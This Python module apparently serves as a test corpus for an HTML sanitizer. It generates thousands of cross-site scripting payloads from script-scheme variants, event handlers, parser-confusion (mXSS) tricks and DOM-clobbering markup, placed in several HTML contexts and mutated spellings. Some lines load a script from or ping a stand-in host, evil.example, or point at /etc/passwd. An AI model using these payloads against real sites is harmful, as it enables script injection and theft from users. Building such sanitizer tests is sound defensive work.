"""Some 4,000 ways to smuggle a script into a body: every vector, in every context, in every spelling."""

from collections.abc import Callable, Iterator
from itertools import product
from typing import NamedTuple

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&NewLine;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://journal.example/1",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "livescript:alert(1)",
]
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
]
CARRIERS = [
    "<p {}>x</p>",
    "<a href=https://a.example {}>x</a>",
    "<li {}>x</li>",
    "<img src=x {}>",
    "<svg {}></svg>",
]

VECTORS = [
    *(f'<a href="{scheme}">x</a>' for scheme in SCHEMES),
    *(carrier.format(f'{name}="alert(1)"') for carrier, name in product(CARRIERS, HANDLERS)),
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button form=f formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<svg><style><img src="</style><img src=x onerror=alert(1)>"></style></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://a.example" target=_blank ping=//evil.example download>x</a>',
    '<a id=cookie name=forms href="https://a.example">x</a>',
    '<p class="errornote" id="main" dir=rtl contenteditable>x</p>',
    '<a href="//evil.example">x</a>',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p is=x-evil slot=y nonce=z>x</p>",
    "<mark class=claim id=claim-1 data-claims=1>x</mark>",
    '<ol start="1" type="a" onclick="alert(1)" style="x"><li>x</li></ol>',
    '<a href="https://a.example" title=\'"><img src=x onerror=alert(1)>\'>x</a>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?><?php echo 1 ?>",
    "</p></div></body><script>alert(1)</script>",
]

CONTEXTS = [
    "{}",
    "<p>{}</p>",
    "<p>a <strong>b {} c</strong> d</p>",
    "<ul><li>{}</li></ul>",
    "<blockquote><p>{}</p></blockquote>",
    "<div><table><tr><td>{}</td></tr></table></div>",
    "<p title='{}'>x</p>",
    "<!-- {} -->",
    "<em><p>{}",
]

Spelling = Callable[[str], str]
SPELLINGS: list[Spelling] = [
    str,
    str.swapcase,
    lambda html: html.replace(" ", "/"),
    lambda html: html.replace("<", "<\x00"),
    lambda html: html.replace("<", "&lt;").replace(">", "&gt;"),
]


class Payload(NamedTuple):
    html: str
    around: str
    is_plain: bool


def payloads() -> Iterator[Payload]:
    for vector, around, spelling in product(VECTORS, CONTEXTS, SPELLINGS):
        yield Payload(around.replace("{}", spelling(vector)), around, spelling is str)
